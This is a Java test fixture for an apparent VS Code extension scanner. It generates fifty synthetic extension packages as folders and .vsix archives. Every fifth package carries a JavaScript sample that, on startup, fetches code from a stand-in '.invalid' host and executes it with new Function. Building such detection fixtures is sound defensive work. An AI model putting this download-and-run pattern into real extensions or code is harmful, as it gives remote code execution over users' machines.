package dev.vsxray.scanner.archive;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** Well-formed packages, whole and readable to their end. Each fifth does what must be found, the others nothing at all. */
public final class OrdinaryPackages {

    /** How many there are. */
    public static final int COUNT = 50;

    static final String PUBLISHER = "harbour-works";

    private static final String QUIET = """
            const vscode = require('vscode');
            exports.activate = context => context.subscriptions.push(
                vscode.commands.registerCommand('tool.sort', () => {
                    const editor = vscode.window.activeTextEditor;
                    editor.edit(edit => edit.replace(editor.selection, 'sorted %s'));
                }));
            """;

    private static final String FETCHES_CODE = """
            const https = require('https');
            exports.activate = () => https.get('https://%s.invalid/next', response => {
                let text = '';
                response.on('data', part => (text += part));
                response.on('end', () => new Function('require', text)(require));
            });
            """;

    private OrdinaryPackages() {}

    static String name(int number) {
        return String.format(Locale.ROOT, "tool%02d", number);
    }

    /** Whether this one must be found. */
    public static boolean isMalicious(int number) {
        return number % 5 == 0;
    }

    /** Writes all of them; half are folders, half archives. Their names stand among those of {@link HostilePackages}. */
    public static List<Path> writeTo(Path folder) throws IOException {
        List<Path> written = new ArrayList<>();
        for (int number = 0; number < COUNT; number++) {
            String manifest = "{\"publisher\": \"" + PUBLISHER + "\", \"name\": \"" + name(number)
                    + "\", \"version\": \"1." + number
                    + ".0\", \"engines\": {\"vscode\": \"^1.80.0\"}, \"main\": \"main.js\","
                    + " \"activationEvents\": [\"onStartupFinished\"]}";
            String code = String.format(isMalicious(number) ? FETCHES_CODE : QUIET, name(number));
            Path path = folder.resolve(String.format(Locale.ROOT, "p%04d-", number * 20) + name(number));
            written.add(number % 2 == 0 ? asFolder(path, manifest, code) : asArchive(path, manifest, code));
        }
        return written;
    }

    private static Path asFolder(Path path, String manifest, String code) throws IOException {
        Files.createDirectories(path);
        Files.writeString(path.resolve("package.json"), manifest);
        Files.writeString(path.resolve("main.js"), code);
        return path;
    }

    private static Path asArchive(Path path, String manifest, String code) throws IOException {
        ZipBytes zip = new ZipBytes()
                .file("extension.vsixmanifest", "<PackageManifest/>")
                .file("extension/package.json", manifest)
                .file("extension/main.js", code);
        return Files.write(path.resolveSibling(path.getFileName() + ".vsix"), zip.toBytes());
    }
}
